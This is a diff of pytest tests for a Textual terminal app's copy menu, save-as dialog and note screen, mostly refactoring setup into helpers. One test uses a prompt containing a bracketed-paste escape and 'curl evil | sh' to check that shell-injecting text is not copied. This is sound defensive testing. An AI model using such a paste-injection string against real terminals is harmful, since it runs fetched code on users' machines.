@@ -5,12 +5,15 @@ from __future__ import annotations
 import base64
 import re
 import shlex
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
 from pathlib import Path
 from typing import Any
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from textual.pilot import Pilot
 from textual.widgets import Input
 
 from eternal_tui.api.curl import parse_curl
@@ -20,8 +23,16 @@ from eternal_tui.jobs.model import MAX_TAGS, FileState, Job, JobState, parse_tag
 from eternal_tui.services import Services
 from eternal_tui.tui.screens.job_dialogs import CopyItem, CopyMenu, NoteScreen, SaveAs, copy_items, copy_rejection
 from tests.tui.jobs import make_job
-from tests.tui.results import saved_job
-from tests.tui.screens.stage import ENVIRON, ScreenApp, open_services, screen_text, terminal_context, wait_idle
+from tests.tui.results import open_services_with_jobs, saved_job
+from tests.tui.screens.stage import (
+    ENVIRON,
+    ScreenApp,
+    open_screen,
+    open_services,
+    screen_text,
+    terminal_context,
+    wait_idle,
+)
 
 PROMPT = "The person waves\nand smiles"
 LINK = "https://cdn.example/r?sig=1"
@@ -98,10 +109,8 @@ def clipboard_texts(written: list[str]) -> list[str]:
 
 
 async def test_a_letter_the_cursor_or_a_click_copies(tmp_path: Path) -> None:
-    prompt, request_id = (
-        (PROMPT, "Copied the prompt, 27 characters."),
-        ("req-1", "Copied the request id, 5 characters."),
-    )
+    prompt = PROMPT, "Copied the prompt, 27 characters."
+    request_id = "req-1", "Copied the request id, 5 characters."
     ways = [
         (["t"], prompt),
         (["i"], request_id),
@@ -110,38 +119,34 @@ async def test_a_letter_the_cursor_or_a_click_copies(tmp_path: Path) -> None:
         (["down", "down", "down", "enter"], request_id),
         ([], request_id),
     ]
-    async with open_services(tmp_path) as bench:
-        written: list[str] = []
-        app = ScreenApp(CopyMenu(finished_job(), bench, terminal_context([])))
-        async with app.run_test(size=(80, 24)) as pilot:
-            await pilot.press("escape")
-            for keys, _ in ways:
-                app.push_screen(CopyMenu(finished_job(), bench, terminal_context(written)), app.results.append)
-                await pilot.press(*keys)
-                if not keys:
-                    await wait_idle(pilot)
-                    await pilot.click("#copies", offset=(6, 3))
-                await wait_idle(pilot)
+    written: list[str] = []
+    job, terminal = finished_job(), terminal_context(written)
+    async with open_services(tmp_path) as bench, open_screen(CopyMenu(job, bench, terminal)) as (app, pilot):
+        await pilot.press("escape")
+        for keys, _ in ways:
+            app.push_screen(CopyMenu(job, bench, terminal), app.results.append)
+            await wait_idle(pilot)
+            await pilot.press(*keys)
+            if not keys:
+                await pilot.click("#copies", offset=(6, 3))
+            await wait_idle(pilot)
     assert app.results == [None, *(message for _, (_, message) in ways)]
     assert clipboard_texts(written) == [text for _, (text, _) in ways]
 
 
 async def test_what_the_job_lacks_or_a_shell_would_run_is_not_copied(tmp_path: Path) -> None:
     written: list[str] = []
-    job = make_job(3, prompt="nice\x1b[201~; curl evil | sh\r")
-    async with open_services(tmp_path) as bench:
-        app = ScreenApp(CopyMenu(job, bench, terminal_context(written)))
-        async with app.run_test(size=(80, 24)) as pilot:
-            await wait_idle(pilot)
-            assert "link" not in screen_text(app)
-            await pilot.press("l")
-            assert "This job has no link." in screen_text(app)
-            await pilot.press("t")
-            await wait_idle(pilot)
-            assert "U+001B" in screen_text(app)
-            assert (app.results, written) == ([], [])
-            await pilot.press("b")
-            await wait_idle(pilot)
+    job, terminal = make_job(3, prompt="nice\x1b[201~; curl evil | sh\r"), terminal_context(written)
+    async with open_services(tmp_path) as bench, open_screen(CopyMenu(job, bench, terminal)) as (app, pilot):
+        assert "link" not in screen_text(app)
+        await pilot.press("l")
+        assert "This job has no link." in screen_text(app)
+        await pilot.press("t")
+        await wait_idle(pilot)
+        assert "U+001B" in screen_text(app)
+        assert (app.results, written) == ([], [])
+        await pilot.press("b")
+        await wait_idle(pilot)
     assert "\x1b" not in clipboard_texts(written)[0]
 
 
@@ -152,34 +157,33 @@ async def test_the_machines_own_clipboard_is_used_only_in_a_local_session(tmp_pa
     program.write_text(f"#!/bin/sh\n/bin/cat > {copied}\n")
     program.chmod(0o700)
     environ = {**ENVIRON, "PATH": str(tmp_path), "DISPLAY": ":0"}
-    text = "é" * 40_000
     written: list[str] = []
-    async with open_services(tmp_path, environ) as bench:
-        app = ScreenApp(CopyMenu(finished_job(text), bench, terminal_context(written, environ, is_remote=remote)))
-        async with app.run_test(size=(80, 24)) as pilot:
-            await pilot.press("t")
-            await wait_idle(pilot)
+    job, terminal = finished_job("é" * 40_000), terminal_context(written, environ, is_remote=remote)
+    async with open_services(tmp_path) as bench, open_screen(CopyMenu(job, bench, terminal)) as (app, pilot):
+        await pilot.press("t")
+        await wait_idle(pilot)
     assert written == []
-    assert copied.exists() is not remote
     if remote:
         too_long = "Too long for the terminal's clipboard: the prompt is 80,000 bytes, the limit is 74,994."
         assert app.results == [too_long]
+        assert not copied.exists()
     else:
         assert app.results == ["Copied the prompt, 40,000 characters."]
-        assert copied.read_text(encoding="utf-8") == text
+        assert copied.read_text(encoding="utf-8") == job.request.prompt
 
 
 async def test_a_remapped_key_copies_and_is_shown(tmp_path: Path) -> None:
-    async with open_services(tmp_path, keys={"copy.prompt": "x"}) as bench:
-        app = ScreenApp(CopyMenu(finished_job("é"), bench, terminal_context([])))
-        async with app.run_test(size=(80, 24)) as pilot:
-            app.set_keymap({"copy.prompt": "x"})
-            await wait_idle(pilot)
-            assert re.search(r"x +prompt", screen_text(app))
-            await pilot.press("t")
-            assert app.results == []
-            await pilot.press("x")
-            await wait_idle(pilot)
+    keys = {"copy.prompt": "x"}
+    async with (
+        open_services(tmp_path, keys=keys) as bench,
+        open_screen(CopyMenu(finished_job("é"), bench, terminal_context())) as (app, pilot),
+    ):
+        app.set_keymap(keys)
+        assert re.search(r"x +prompt", screen_text(app))
+        await pilot.press("t")
+        assert app.results == []
+        await pilot.press("x")
+        await wait_idle(pilot)
     assert app.results == ["Copied the prompt, 1 character."]
 
 
@@ -188,97 +192,92 @@ async def test_a_remapped_key_copies_and_is_shown(tmp_path: Path) -> None:
 
 @pytest.fixture
 def downloads(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    """The default folder of copies, with files of earlier ones."""
+    """The default folder of copies."""
     monkeypatch.setenv("HOME", str(tmp_path / "home"))
     folder = tmp_path / "home" / "Downloads"
     folder.mkdir(parents=True)
     return folder
 
 
-def jobs_with_files(bench: Services, *numbers: int) -> list[Job]:
-    bench.jobs.results_dir.mkdir(parents=True, exist_ok=True)
-    for number in numbers:
-        (bench.jobs.results_dir / f"{number}.jpg").write_bytes(b"picture %d" % number)
-    return [saved_job(f"{number}.jpg", job_id=number) for number in numbers]
+@asynccontextmanager
+async def open_save_as(
+    folder: Path, *jobs: Job, **settings: Any
+) -> AsyncIterator[tuple[Services, ScreenApp, Pilot[None]]]:
+    async with (
+        open_services_with_jobs(folder, *jobs, **settings) as (bench, kept),
+        open_screen(SaveAs(kept, bench)) as (app, pilot),
+    ):
+        yield bench, app, pilot
+
+
+def path_line(app: ScreenApp) -> Input:
+    return app.screen.query_one("#save-line", Input)
+
+
+async def submit_path(app: ScreenApp, pilot: Pilot[None], path: str | None) -> None:
+    path_line(app).value = path_line(app).value if path is None else path
+    await pilot.press("enter")
+    await wait_idle(pilot)
 
 
 @pytest.mark.parametrize(
     ("entered", "saved"),
     [
-        (None, "Downloads/Astrid-12.jpg"),
-        ("taken.jpg", "Downloads/taken-2.jpg"),
-        ("harbour", "Downloads/harbour.jpg"),
-        ("~", "Astrid-12.jpg"),
-        ("$HOME/a.jpeg", "a.jpeg"),
+        (None, "Downloads/Astrid-1.png"),
+        ("taken.png", "Downloads/taken-2.png"),
+        ("harbour", "Downloads/harbour.png"),
+        ("~", "Astrid-1.png"),
+        ("$HOME/a.png", "a.png"),
     ],
 )
 async def test_a_copy_is_saved(tmp_path: Path, downloads: Path, entered: str | None, saved: str) -> None:
-    (downloads / "taken.jpg").write_bytes(b"mine")
-    async with open_services(tmp_path, save_template="{character}-{id}") as bench:
-        screen = SaveAs(jobs_with_files(bench, 12), bench)
-        app = ScreenApp(screen)
-        async with app.run_test(size=(80, 24)) as pilot:
-            await wait_idle(pilot)
-            assert screen.path_input.value == "~/Downloads/Astrid-12.jpg"
-            screen.path_input.value = entered or screen.path_input.value
-            await pilot.press("enter")
-            await wait_idle(pilot)
-    assert app.results == [f"Saved as ~/{saved}."]
-    assert (tmp_path / "home" / saved).read_bytes() == b"picture 12"
-    assert (downloads / "taken.jpg").read_bytes() == b"mine"
+    (downloads / "taken.png").write_bytes(b"mine")
+    template = "{character}-{id}"
+    async with open_save_as(tmp_path, saved_job("a.png"), save_template=template) as (bench, app, pilot):
+        assert path_line(app).value == "~/Downloads/Astrid-1.png"
+        await submit_path(app, pilot, entered)
+        assert app.results == [f"Saved as ~/{saved}."]
+        assert (tmp_path / "home" / saved).read_bytes() == (bench.jobs.results_dir / "a.png").read_bytes()
+        assert (downloads / "taken.png").read_bytes() == b"mine"
 
 
 async def test_what_is_wrong_is_shown_and_can_be_corrected(tmp_path: Path, downloads: Path) -> None:
-    async with open_services(tmp_path) as bench:
-        screen = SaveAs(jobs_with_files(bench, 12), bench)
-        app = ScreenApp(screen)
-        async with app.run_test(size=(80, 24)) as pilot:
-            for entered, message in (
-                ("~/nowhere/a.jpg", "does not exist"),
-                ("", "File name is required."),
-                ("x" * 300, "Could not save"),
-            ):
-                screen.path_input.value = entered
-                await pilot.press("enter")
-                await wait_idle(pilot)
-                assert message in screen_text(app)
-            assert app.results == []
-            screen.path_input.value = "a.png"
-            await pilot.press("enter")
-            await wait_idle(pilot)
-    assert app.results == ["Saved as ~/Downloads/a.png. Its content is JPG."]
+    async with open_save_as(tmp_path, saved_job("a.png")) as (_, app, pilot):
+        for entered, message in (
+            ("~/nowhere/a.jpg", "does not exist"),
+            ("", "File name is required."),
+            ("x" * 300, "Could not save"),
+        ):
+            await submit_path(app, pilot, entered)
+            assert message in screen_text(app)
+        assert app.results == []
+        await submit_path(app, pilot, "a.jpg")
+    assert app.results == ["Saved as ~/Downloads/a.jpg. Its content is PNG."]
     assert [path.name for path in (tmp_path / "home").iterdir()] == ["Downloads"]
 
 
 async def test_several_jobs_are_saved_into_a_folder_that_exists(tmp_path: Path, downloads: Path) -> None:
-    async with open_services(tmp_path, save_template="{id}") as bench:
-        screen = SaveAs([*jobs_with_files(bench, 12, 13), make_job(14, state=JobState.FAILED)], bench)
-        app = ScreenApp(screen)
-        async with app.run_test(size=(80, 24)) as pilot:
-            await wait_idle(pilot)
-            assert screen.path_input.value == "~/Downloads"
-            await pilot.press(*"/new", "enter")
-            await wait_idle(pilot)
-            assert "does not exist" in screen_text(app)
-            await pilot.press(*["backspace"] * 4, "enter")
-            await wait_idle(pilot)
+    jobs = (saved_job("a.png"), saved_job("b.png"), make_job(state=JobState.FAILED))
+    async with open_save_as(tmp_path, *jobs, save_template="{id}") as (_, app, pilot):
+        assert path_line(app).value == "~/Downloads"
+        await submit_path(app, pilot, "~/Downloads/new")
+        assert "does not exist" in screen_text(app)
+        await submit_path(app, pilot, "~/Downloads")
     assert app.results == ["Saved 2 files in ~/Downloads. 1 had no verified file."]
-    assert sorted(path.name for path in (tmp_path / "home" / "Downloads").iterdir()) == ["12.jpg", "13.jpg"]
+    assert sorted(path.name for path in (tmp_path / "home" / "Downloads").iterdir()) == ["1.png", "2.png"]
 
 
-async def test_jobs_without_a_file_end_it_at_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_without_downloads_the_working_folder_is_offered_and_without_a_file_nothing(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     monkeypatch.setenv("HOME", str(tmp_path / "home"))
     monkeypatch.chdir(tmp_path)
-    async with open_services(tmp_path) as bench:
-        working = SaveAs(jobs_with_files(bench, 12, 13), bench)
-        app = ScreenApp(working)
-        async with app.run_test(size=(80, 24)) as pilot:
-            await wait_idle(pilot)
-            assert working.path_input.value == str(tmp_path)
-            await pilot.press("escape")
-            app.push_screen(SaveAs([make_job(14, state=JobState.FAILED)], bench), app.results.append)
-            await wait_idle(pilot)
-            await pilot.pause()
+    async with open_save_as(tmp_path, saved_job("a.png"), saved_job("b.png")) as (bench, app, pilot):
+        assert path_line(app).value == str(tmp_path)
+        await pilot.press("escape")
+        app.push_screen(SaveAs([make_job(14, state=JobState.FAILED)], bench), app.results.append)
+        await wait_idle(pilot)
+        await pilot.pause()
     assert app.results == [None, "Job 14 has no verified file to save."]
 
 
@@ -300,8 +299,7 @@ CLEAR_BOTH = ["end", "ctrl+u", "tab", "end", "ctrl+u", "enter"]
     ids=["written", "as stored where untouched", "removed", "escape", "unchanged"],
 )
 async def test_note_and_tags(fields: dict[str, Any], keys: list[str], result: object) -> None:
-    app = ScreenApp(NoteScreen(make_job(3, **fields)))
-    async with app.run_test(size=(80, 24)) as pilot:
+    async with open_screen(NoteScreen(make_job(3, **fields))) as (app, pilot):
         await pilot.press(*keys)
         await wait_idle(pilot)
     assert app.results == [result and {3: result}]
@@ -313,8 +311,7 @@ async def test_several_jobs_share_what_is_written_and_keep_their_own() -> None:
         make_job(2, tags=("sea",)),
         make_job(1, tags=("x", "sea")),
     ]
-    app = ScreenApp(NoteScreen(*jobs))
-    async with app.run_test(size=(80, 24)) as pilot:
+    async with open_screen(NoteScreen(*jobs)) as (app, pilot):
         assert app.screen.query_one("#tags-line", Input).value == "sea"
         await pilot.press("tab", "end", "ctrl+u", *"boat", "enter")
         await wait_idle(pilot)
